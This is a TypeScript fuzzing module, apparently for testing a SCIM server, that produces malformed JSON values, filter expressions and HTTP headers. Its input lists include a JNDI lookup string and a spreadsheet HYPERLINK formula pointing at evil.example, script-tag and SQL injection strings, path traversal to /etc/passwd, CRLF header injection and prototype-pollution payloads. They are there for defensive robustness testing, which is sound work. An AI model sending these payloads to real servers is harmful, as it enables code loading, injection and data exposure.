// What clients should not send: values, texts of filters and paths, headers. Each has broken some server somewhere.

import type { Chance } from './chance.ts';

/** JSON text that JSON.stringify would never write: it replaces the marked string. */
const rawMark = '\u0001raw:';
const rawPattern = /"\\u0001raw:((?:[^"\\]|\\.)*)"/g;

const texts = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udfff\ud800',
  '\u202Eevil',
  'Ω≈ç√ 👩‍👩‍👧 ﷽',
  'İıſK',
  '=HYPERLINK("http://evil.example")',
  '<script>alert(1)</script>',
  'javascript:alert(1)',
  "' OR 1=1 --",
  '%00%2e%2e%2f',
  '../../../etc/passwd',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '2011-02-29T00:00:00Z',
  '0000-00-00T00:00:00Z',
  '99999999-01-01T00:00:00Z',
  'True',
  'false',
  'null',
  ['$', '{jndi:ldap://evil.example/a}'].join(''),
  '\r\nSet-Cookie: a=b',
  '\u001b[2J',
  'x'.repeat(257),
  'ß'.repeat(5_000),
] as const;

const numbers = [
  '0',
  '-0',
  '-1',
  '1e400',
  '-1e400',
  '1e-400',
  '9007199254740993',
  '1.5',
  '100000000000000000000',
] as const;

/** Any JSON value, small or absurd. */
export function garbageValue(chance: Chance, depth = 0): unknown {
  switch (chance.below(depth > 3 ? 5 : 9)) {
    case 0:
      return chance.pick([null, true, false, [], {}]);
    case 1:
      return rawMark + chance.pick(numbers);
    case 2:
    case 3:
    case 4:
      return chance.pick(texts);
    case 5:
      return rawMark + nested(chance.pick([15, 17, 40, 3_000]), chance.pick(['[]', '{}']));
    case 6:
      return Array.from({ length: chance.below(4) }, () => garbageValue(chance, depth + 1));
    case 7:
      return `${rawMark}{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}`;
    default:
      return {
        value: garbageValue(chance, depth + 1),
        type: garbageText(chance),
        primary: chance.pick([true, 'True', 1]),
      };
  }
}

export function garbageText(chance: Chance): string {
  return chance.pick(texts);
}

/** JSON text of a value in which marked strings stand for raw text. */
export function printJson(value: unknown): string {
  const text = JSON.stringify(value) ?? '';
  return text.replace(rawPattern, (_, raw: string) => String(JSON.parse(`"${raw}"`)));
}

const words = [
  'userName',
  'id',
  'externalId',
  'emails',
  'emails.value',
  'members.value',
  'manager',
  'meta.lastModified',
  'active',
  'urn:ietf:params:scim:schemas:core:2.0:User:userName',
  'urn:ietf:params:scim:schemas:extension:enterprise:2.0:User:department',
  '__proto__',
  'toString.length',
  '$ref',
  'eq',
  'ne',
  'co',
  'sw',
  'ew',
  'gt',
  'le',
  'pr',
  'EQ',
  'and',
  'or',
  'not',
  '(',
  ')',
  '[',
  ']',
  '.',
  ':',
  '"x"',
  '"\\u0000"',
  '"\\ud800"',
  '"',
  'true',
  'null',
  '1e400',
  '-1',
  '"2011-02-29T00:00:00Z"',
  '"2026-01-01T00:00:00Z"',
  '"%"',
  '"_"',
] as const;

/** The text of a filter or path, mostly wrong, sometimes deep or long. */
export function garbageFilter(chance: Chance): string {
  if (chance.once(40)) return '('.repeat(chance.pick([15, 17, 5_000]));
  if (chance.once(40)) return Array.from({ length: chance.pick([99, 101, 400]) }, () => 'active pr').join(' or ');
  return Array.from({ length: 1 + chance.below(9) }, () => chance.pick(words)).join(' ');
}

const headerLines = [
  'If-Match: W/"1"',
  'If-Match: *',
  'If-Match: "',
  'If-None-Match: W/"1", "2"',
  'Content-Type: text/plain',
  'Content-Type: application/json; charset=utf-16',
  'Content-Encoding: gzip',
  'Transfer-Encoding: chunked',
  'Content-Length: 5',
  'Content-Length: -1',
  'Expect: 100-continue',
  'Authorization: Basic YTpi',
  'Authorization: Bearer becard_scim_x',
  'X-HTTP-Method-Override: DELETE',
  'X-Forwarded-For: 1.2.3.4, , ::1, nonsense',
  'X-Forwarded-Host: evil.example',
  'X-Request-Id: a b\u00ff',
  `X-Long: ${'x'.repeat(9_000)}`,
  'Accept: text/html',
  'Accept-Encoding: br;q=, gzip',
  'Cookie: becard_session=; =; a',
  'Origin: null',
  'Sec-Fetch-Site: cross-site',
  'Range: bytes=0-',
  'Upgrade: websocket',
] as const;

export function garbageHeader(chance: Chance): string {
  return chance.pick(headerLines);
}

function nested(depth: number, pair: '[]' | '{}'): string {
  return pair === '[]' ? '['.repeat(depth) + ']'.repeat(depth) : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
}
